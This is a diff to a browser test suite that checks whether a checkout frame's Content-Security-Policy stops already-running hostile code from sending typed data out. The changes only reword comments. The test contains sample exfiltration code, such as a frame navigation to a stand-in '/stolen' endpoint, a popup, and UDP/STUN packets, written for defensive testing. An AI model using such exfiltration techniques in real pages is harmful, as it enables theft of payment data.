@@ -1,6 +1,6 @@
 /**
- * threat-model 1.8: hostile code that already runs in the frame's document sends nothing out of it, by none of the ways
- * that a Content-Security-Policy does not know. Each way is shown to work without the header, so that the test can fail.
+ * threat-model 1.8: hostile code that already runs in the frame's document can't send anything out by the ways that a
+ * Content-Security-Policy does not cover. Each way is shown to work without the header, so that the test can fail.
  */
 import { createSocket } from 'node:dgram';
 import type { Page } from 'playwright/test';
@@ -25,7 +25,7 @@ const withoutHeader = (page: Page) =>
     await route.fulfill({ response, headers });
   });
 
-/** What the code does with what was typed, and how the test sees that the browser is done with it. */
+/** How the code sends out the typed data, and how the test sees that the browser has finished. */
 const WAYS = {
   'a navigation of the frame': (url: string) => {
     location.href = url;
@@ -56,7 +56,7 @@ for (const { title, tag, ways } of [
     watch.expect(/ERR_|blocked|Unsafe attempt/i);
     const asked: string[] = [];
     context.on('request', (request) => asked.push(request.url()));
-    /** Runs the code in the frame, and returns the window that it opened. */
+    /** Runs the code in the frame and returns the window that it opened. */
     const steal = async (way: keyof typeof WAYS) => {
       const checkout = await open(await service.createIntent());
       await checkout.ready();
@@ -64,7 +64,7 @@ for (const { title, tag, ways } of [
       const [, frame] = page.frames();
       const stolen = site.put('/stolen', 'x');
       await frame?.evaluate(WAYS[way], `${stolen}?4242`).catch(() => {}); // its document may be gone by then
-      // Also without the header: the test may not end before the window is there.
+      // Waits without the header too: the test must not end before the window exists.
       return { checkout, opened: await popup };
     };
     for (const way of ways) {
@@ -112,7 +112,7 @@ for (const isProtected of [true, false]) {
       await gathered;
       expect(packets).toBe(0);
     } else {
-      gathered?.catch(() => {}); // goes on for as long as nobody answers
+      gathered?.catch(() => {}); // continues until someone answers
       await expect.poll(() => packets).toBeGreaterThan(0);
     }
     stun.close();
